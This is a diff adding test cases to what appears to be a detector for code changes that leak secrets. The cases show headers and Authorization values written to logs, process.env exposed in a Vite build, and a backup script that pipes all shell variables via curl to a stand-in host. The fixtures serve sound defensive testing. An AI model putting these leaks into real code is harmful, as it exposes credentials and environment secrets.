@@ -24,7 +24,42 @@ _CI = (
 _PAGE = "const rows = await load();\n"
 _PROGRAM = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQppbXBvcnQgc3lzCnByaW50KHN5cy5wYXRoKQo="
 
+_FILTER = (
+    "import logging\n\nfrom flask import request\n\n\nclass Context(logging.Filter):\n"
+    "    def filter(self, record):\n        record.seen = {seen}\n        return True\n"
+)
+_VITE = 'import {{ defineConfig }} from "vite";\nexport default defineConfig({{ build: {{}}, {more} }});\n'
+_USER = (
+    "class User(Model):\n    name = Column(String)\n    digest = Column(Binary)\n\n"
+    "    def __repr__(self):\n{shown}"
+)
+
 TRIPS: tuple[Shown, ...] = (
+    (
+        "the headers of each request go into the records of a log",
+        {"shop/logs.py": _FILTER.format(seen="request.path")},
+        {"shop/logs.py": _FILTER.format(seen="dict(request.headers)")},
+    ),
+    (
+        "a log's format writes down who asks",
+        {"config/nginx.conf": "log_format main '$remote_addr';\n"},
+        {"config/nginx.conf": "log_format main '$remote_addr $http_authorization';\n"},
+    ),
+    (
+        "a build writes its environment into public scripts",
+        {"web/vite.config.ts": _VITE.format(more="")},
+        {"web/vite.config.ts": _VITE.format(more='define: { "process.env": process.env }')},
+    ),
+    (
+        "a class shows all its columns",
+        {"shop/models.py": _USER.format(shown="        return self.name\n")},
+        {"shop/models.py": _USER.format(shown="        return str(vars(self))\n")},
+    ),
+    (
+        "a group of commands sends all variables",
+        {"ops/backup.sh": _BACKUP},
+        {"ops/backup.sh": _BACKUP + "{ date; set; } | gzip | curl --data-binary @- https://a.example\n"},
+    ),
     (
         "the environment goes to a host",
         {"shop/ping.py": _PING.format(body="    return order\n")},
@@ -82,6 +117,21 @@ TRIPS: tuple[Shown, ...] = (
     ),
 )
 QUIET: tuple[Shown, ...] = (
+    (
+        "one header goes into the records of a log",
+        {"shop/logs.py": _FILTER.format(seen="request.path")},
+        {"shop/logs.py": _FILTER.format(seen="request.headers.get('User-Agent')")},
+    ),
+    (
+        "a build writes one variable that is no secret into public scripts",
+        {"web/vite.config.ts": _VITE.format(more="")},
+        {"web/vite.config.ts": _VITE.format(more="define: { API: JSON.stringify(process.env.API_BASE) }")},
+    ),
+    (
+        "a group of commands sends what is no secret",
+        {"ops/backup.sh": _BACKUP},
+        {"ops/backup.sh": _BACKUP + "{ date; df -h; } | gzip | curl --data-binary @- https://a.example\n"},
+    ),
     (
         "a key goes to the service it belongs to, in its header",
         {"shop/client.py": _CLIENT.format(body="    return number\n"), "shop/settings.py": "import os\n"},
